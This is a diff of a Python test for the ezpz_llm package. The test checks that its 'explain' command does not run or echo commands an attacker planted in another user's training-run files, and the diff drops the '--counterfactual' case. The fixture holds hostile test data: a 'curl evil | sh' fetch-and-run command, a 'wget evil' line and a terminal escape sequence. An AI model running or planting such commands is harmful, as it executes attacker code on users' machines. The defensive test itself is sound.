@@ -313,14 +313,8 @@ def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tr
             assert not [line for line in output.splitlines() if line.startswith("  try: wget evil")]
             if folder == "r":
                 assert f"  resume: your training command with --resume {attacker.home}/r" in output
-            done = victim.run(sys.executable, "-m", "ezpz_llm.explain", attacker.home / folder, "--counterfactual",
-                              "--yes")
-            assert done.returncode, done.stdout
-            output = _ended(done, done.returncode)
-            assert "curl" not in output
-            assert "This starts" not in output
-            if folder == "r":
-                assert "--counterfactual only reruns your own runs" in output
+            done = victim.run(sys.executable, "-m", "ezpz_llm.explain", attacker.home / folder)
+            assert "curl" not in _ended(done, done.returncode)
         assert not list(victim.home.rglob("pwned"))
         assert exchange.poll() is None
     attacker.end_all()
@@ -338,7 +332,7 @@ record = json.loads((run / "run.json").read_text())
 record["launch"]["typed"] = ["launch", "-n", "1", "sh", "-c", "curl evil | sh; echo PWNED > pwned"]
 record["exit"]["stopped"] = {"kind": "signal", "text": "it was asked to\\n  try: wget evil \x1b]0;PWN",
                              "signal": "SIGTERM"}
-# Files of a training run with enough ranks for a counterfactual.
+# Files of a training run that explain reads.
 record |= {"environment": {"world_size": 2, "device": {"type": "cpu"}}, "precision": "fp32", "steps": 2,
            "config": {"ds_config": "zero1", "steps": 2, "log_every": 1},
            "model": {"n_layer": 1, "n_head": 1, "n_embd": 8, "block_size": 8, "vocab_size": 8},
